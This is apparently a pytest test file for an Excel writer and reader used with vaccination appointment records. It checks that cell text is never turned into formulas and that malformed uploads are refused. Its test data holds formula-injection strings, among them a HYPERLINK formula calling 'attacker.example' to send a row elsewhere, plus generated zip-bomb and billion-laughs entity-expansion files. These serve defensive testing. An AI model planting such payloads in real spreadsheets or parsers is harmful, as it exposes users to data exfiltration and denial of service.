"""Excel files: written with the right types, nothing in them calculated; read in bounds (V9)."""

import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from layers import excel_reading, excel_writing
from layers.excel_reading import FileFault, Limits, UnreadableFile
from layers.excel_writing import Column, Kind, Sheet, Value

shown = datetime.fromisoformat
"""What a date cell shows, which has no zone."""

NOW = datetime(2022, 7, 13, 2, tzinfo=UTC)
LIMITS = Limits(unpacked=10_000_000, rows=1000, columns=10)
COLUMNS = [
    Column("姓名"),
    Column("针数", Kind.NUMBER),
    Column("接种日期", Kind.DATE),
    Column("登记时间", Kind.INSTANT),
    Column("首针完成率", Kind.SHARE),
]
ROW: list[Value] = ["张三", 1, date(2021, 4, 21), datetime(2022, 7, 13, 1, 30, tzinfo=UTC), 0.078]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "file.xlsx"


def test_v9_every_value_has_its_type(path: Path) -> None:
    excel_writing.write(path, [Sheet("预约记录", COLUMNS, [ROW])], NOW)

    (sheet,) = load_workbook(path).worksheets
    assert sheet.title == "预约记录"
    assert [cell.value for cell in sheet[1]] == [column.heading for column in COLUMNS]
    assert [cell.value for cell in sheet[2]] == [
        "张三",
        1,
        shown("2021-04-21"),
        shown("2022-07-13 09:30"),  # as clocks in Shenzhen showed it
        0.078,
    ]
    assert [cell.number_format for cell in sheet[2]] == [kind.value for kind in Kind]


TEXTS = [
    ("=1+1", "a formula"),
    ("+86 138", "calculated in some programs"),
    ("-1", "the same"),
    ("@SUM(A1)", "a formula of old"),
    ('=HYPERLINK("http://attacker.example","张三")', "a link that sends the row elsewhere"),
    ("\t=1+1", "behind a tab"),
    ("http://attacker.example", "no link is made of it"),
    ("320404199001011234", "an identity number keeps its digits"),
    ("{=1+1}", "an array formula"),
]


@pytest.mark.parametrize(("text", "comment"), TEXTS)
def test_v9_nobodys_text_becomes_a_formula(path: Path, text: str, comment: str) -> None:
    excel_writing.write(path, [Sheet("预约记录", COLUMNS[:1], [[text]])], NOW)

    cell = load_workbook(path).worksheets[0]["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None), comment
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t")), comment
    assert cell.number_format == "@", comment


def test_v9_the_same_rows_make_the_same_file(path: Path, tmp_path: Path) -> None:
    again = tmp_path / "again.xlsx"

    for each in (path, again):
        excel_writing.write(each, [Sheet("预约记录", COLUMNS, [ROW])], NOW)

    assert path.read_bytes() == again.read_bytes()


def test_v9_what_was_written_is_read(path: Path) -> None:
    written = excel_writing.write(path, [Sheet("预约记录", COLUMNS, [ROW, [None] * 5, ROW])], NOW)

    rows = list(excel_reading.rows(path, LIMITS))

    assert written == 3
    assert [row.number for row in rows] == [1, 2, 4]  # the empty one is left out, the numbers are Excel's
    assert rows[1].cells[:2] == ("张三", 1)


def rows_of(number: int) -> Iterator[list[Value]]:
    return (ROW for _ in range(number))


def test_v9_memory_does_not_grow_with_the_rows(path: Path) -> None:
    def write() -> None:
        excel_writing.write(path, [Sheet("预约记录", COLUMNS, rows_of(4000))], NOW)

    def read() -> None:
        assert sum(1 for _ in excel_reading.rows(path, Limits(10**8, 10**5, 5))) == 4001

    write()  # what is imported late is no part of it

    assert peak(write) < 1_000_000
    assert peak(read) < 2_000_000


def peak(work: Callable[[], None]) -> int:
    """Return the most bytes that Python objects took meanwhile."""
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def sheet_of(cells: str, dimension: str = "A1:B2", before: str = "") -> str:
    """Return a worksheet's XML."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    said = f'<dimension ref="{dimension}"/>'
    inner = f"{said}<sheetData>{cells}</sheetData>"
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{main}">{inner}</worksheet>'


def with_sheet(path: Path, xml: str) -> None:
    """Write a file whose first sheet is this XML."""
    excel_writing.write(path, [Sheet("a", COLUMNS[:1], [])], NOW)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, "xl/worksheets/sheet1.xml": xml.encode()}.items():
            archive.writestr(name, content)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
CELL = '<c r="A1" t="inlineStr"><is><t>{}</t></is></c>'


def a_text(path: Path) -> None:
    path.write_text("姓名,身份证号\n", encoding="utf-8")


def an_old_file(path: Path) -> None:
    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512))


def another_archive(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photo.jpg", b"no workbook")


def cut_off(path: Path) -> None:
    excel_writing.write(path, [Sheet("a", COLUMNS, rows_of(9))], NOW)
    path.write_bytes(path.read_bytes()[:-500])


def damaged(path: Path) -> None:
    with_sheet(path, sheet_of("<row r='1'>")[:-40])


def a_bomb(path: Path) -> None:
    with_sheet(path, sheet_of(" " * LIMITS.unpacked))


def too_long(path: Path) -> None:
    excel_writing.write(path, [Sheet("a", COLUMNS, rows_of(LIMITS.rows))], NOW)


def laughing(path: Path) -> None:
    with_sheet(path, sheet_of(f'<row r="1">{CELL.format("&l9;")}</row>', before=ENTITIES))


UNREADABLE = [
    (a_text, FileFault.NOT_EXCEL, "comma-separated text with another name"),
    (an_old_file, FileFault.PROTECTED, "Excel before 2007, or a password"),
    (another_archive, FileFault.NOT_EXCEL, "an archive of something else"),
    (cut_off, FileFault.NOT_EXCEL, "half an upload"),
    (damaged, FileFault.NOT_EXCEL, "no XML"),
    (a_bomb, FileFault.TOO_LARGE, "small packed, large unpacked"),
    (too_long, FileFault.TOO_MANY_ROWS, "a row more than may be, with its headings"),
    (laughing, FileFault.NOT_EXCEL, "an entity that grows a thousand million times"),
]


@pytest.mark.parametrize(("write", "fault", "comment"), UNREADABLE)
def test_v9_what_cannot_be_read_is_refused(
    path: Path, write: Callable[[Path], None], fault: FileFault, comment: str
) -> None:
    write(path)

    with pytest.raises(UnreadableFile) as refused:
        list(excel_reading.rows(path, LIMITS))

    assert refused.value.fault == fault, comment


def test_v9_a_sheet_that_lies_about_its_size_is_read_as_it_is(path: Path) -> None:
    far = f'<row r="1000000">{CELL.format("last").replace("A1", "B1000000")}</row>'
    with_sheet(path, sheet_of(f'<row r="1">{CELL.format("first")}</row>{far}', dimension="A1:XFD1048576"))

    found = [(row.number, row.cells[:3]) for row in excel_reading.rows(path, LIMITS)]

    assert found == [(1, ("first", None, None)), (1_000_000, (None, "last", None))]


def test_v9_columns_beyond_the_limit_are_left_out(path: Path) -> None:
    cells = "".join(CELL.format(n).replace("A1", f"{column}1") for n, column in enumerate("ABCDEFGHIJKLMN"))
    with_sheet(path, sheet_of(f'<row r="1">{cells}</row>'))

    (row,) = excel_reading.rows(path, LIMITS)

    assert len(row.cells) == LIMITS.columns
